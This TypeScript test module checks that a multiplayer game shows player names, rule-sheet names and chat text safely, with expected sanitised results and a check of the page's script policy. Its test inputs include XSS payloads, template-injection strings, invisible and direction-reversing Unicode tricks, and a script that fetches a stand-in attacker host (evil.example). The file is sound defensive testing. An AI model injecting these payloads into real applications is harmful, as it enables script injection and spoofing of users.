import type { Attack, Kind } from './attack.ts';
import type { Ground } from './ground.ts';

/** How Eva sees Tom when he calls himself this. */
const called = (name: string) => async (ground: Ground) => {
  const { tom, eva } = await ground.victims();
  const seq = eva.known?.seq ?? 0;
  const answer = await tom.command({ do: 'rename', name });
  if (answer !== 'done') return answer;
  await eva.until(() => (eva.known?.seq ?? 0) > seq);
  const chair = eva.known?.room.chairs[1];
  return chair?.kind === 'person' ? `Tom is called ${chair.name}` : 'nobody sits there';
};
/** What the others are told a rule sheet is called. */
const sheetCalled = (sheetName: string) => async (ground: Ground) => {
  const { code, token } = await ground.opened();
  const anna = await ground.join(code, token);
  const guest = await ground.join(code);
  const seq = guest.known?.seq ?? 0;
  const answer = await anna.command({ do: 'setUp', options: { target: 7 }, sheetName });
  if (answer !== 'done') return answer;
  await guest.until(() => (guest.known?.seq ?? 0) > seq);
  return `the sheet is called ${guest.known?.room.sheetName ?? 'nothing'}`;
};

/** What Tom is told that Anna has written. */
const written = (text: string) => async (ground: Ground) => {
  const { code, token } = await ground.opened();
  const anna = await ground.join(code, token);
  const tom = await ground.join(code);
  await tom.command({ do: 'sit', chair: 1, name: 'Tom' });
  await anna.command({ do: 'agree', talk: 'text' });
  const answer = await anna.command({ do: 'write', text });
  if (answer !== 'done') return answer;
  await tom.ping();
  const told = tom.messages.flatMap((message) => (message.type === 'news' ? (message.notices ?? []) : []));
  const said = told.find((notice) => notice.type === 'said');
  return said !== undefined && 'text' in said ? `Tom reads ${said.text}` : 'Tom reads nothing';
};

const NAMES: readonly (readonly [string, string, string])[] = [
  ['a script as a name', '<script>alert(1)', 'Tom is called <script>alert(1)'],
  ['a picture that runs a script', '<img src=x onerror=a()>', 'Tom is called <img src=x onerror=a()>'],
  ['quotes that would end an attribute', '"\'><b>', 'Tom is called "\'><b>'],
  ['a link as a name', 'javascript:alert(1)', 'Tom is called javascript:alert(1)'],
  ['a template as a name', '${7*7}{{7*7}}', 'Tom is called ${7*7}{{7*7}}'],
  ['a name that is written backwards', 'Eva\u202Emot', 'Tom is called Evamot'],
  ['a name with isolates', '\u2066Eva\u2069', 'Tom is called Eva'],
  ['a name with zero-width letters', 'E\u200Bv\uFEFFa', 'Tom is called Eva'],
  ['a name with a null byte', 'E\0va', 'Tom is called Eva'],
  ['a name with line breaks', 'Eva\r\n\u2028Set-Cookie', 'Tom is called Eva Set-Cookie'],
  ['a name with half a surrogate', 'Eva\uD800', 'Tom is called Eva\uFFFD'],
  ['a name with a tower of marks', `E${'\u0301'.repeat(20)}`, 'Tom is called É\u0301\u0301\u0301'],
  ['a name of nothing that can be seen', '\u200B\u2060\u3164', 'bad-name'],
  ['a name of spaces', ' \u00A0\u3000', 'bad-name'],
  ['a name with tags that cannot be seen', 'Eva\u{E0041}\u{E0042}', 'Tom is called Eva'],
];

const TEXTS: readonly Attack[] = [
  {
    name: 'a script as the name of a rule sheet',
    attack: sheetCalled('<svg onload=alert(1)>'),
    expected: 'the sheet is called <svg onload=alert(1)>',
  },
  {
    name: 'a rule sheet whose name is written backwards',
    attack: sheetCalled('\u202Eegasse'),
    expected: 'the sheet is called egasse',
  },
  {
    name: 'a script as what is written',
    attack: written('<script>fetch("https://evil.example")</script>'),
    expected: 'Tom reads <script>fetch("https://evil.example")</script>',
  },
  {
    name: 'what is written, with letters that cannot be seen',
    attack: written('pay\u202E me\0 \u200B'),
    expected: 'Tom reads pay me',
  },
  {
    name: 'nothing that can be seen as what is written',
    attack: written('\u200B\u2060'),
    expected: 'bad-text',
  },
  {
    name: 'writing where only phrases are agreed',
    async attack(ground) {
      const { tom } = await ground.victims();
      return tom.command({ do: 'write', text: 'psst' });
    },
    expected: 'phrases-only',
  },
  {
    name: 'a remark the game does not know',
    async attack(ground) {
      const { anna } = await ground.victims();
      anna.say({ type: 'remark', id: 'r', text: '<script>alert(1)</script>' });
      return anna.answer('r');
    },
    expected: 'no-such-remark',
  },
  {
    name: 'a page that would run what was said',
    async attack({ ask }) {
      const policy = (await ask('/')).headers.get('content-security-policy') ?? '';
      return policy.includes("script-src 'self'") && !policy.includes('unsafe')
        ? 'runs only its own scripts'
        : policy;
    },
    expected: 'runs only its own scripts',
  },
];

/** Words that would be more than words. */
export const TEXTS_KIND: Kind = {
  title: 'Words that would be more than words',
  about:
    'What people write reaches others as text: the client never makes HTML of it, and the page’s policy allows no script but its own. Letters that cannot be seen, turn the line around or break it are taken out of names; what is left must be visible.',
  attacks: [...NAMES.map(([name, text, expected]) => ({ name, attack: called(text), expected })), ...TEXTS],
};
